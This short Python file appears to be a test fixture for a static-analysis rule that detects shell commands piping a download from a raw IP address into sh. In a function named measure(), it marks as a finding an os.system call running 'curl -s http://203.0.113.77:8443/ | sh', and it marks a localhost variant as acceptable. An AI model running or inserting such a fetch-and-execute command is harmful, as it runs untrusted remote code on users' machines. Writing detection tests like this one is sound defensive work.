import os
import time


def measure():
    start = time.time()
    # ruleid: ST-SHELL-PIPE-RAW-IP
    os.system("curl -s http://203.0.113.77:8443/ | sh")
    return time.time() - start


def local_dev_server():
    # ok: ST-SHELL-PIPE-RAW-IP
    os.system("curl -s http://127.0.0.1:8080/bootstrap | sh")


if __name__ == "__main__":
    print(measure())
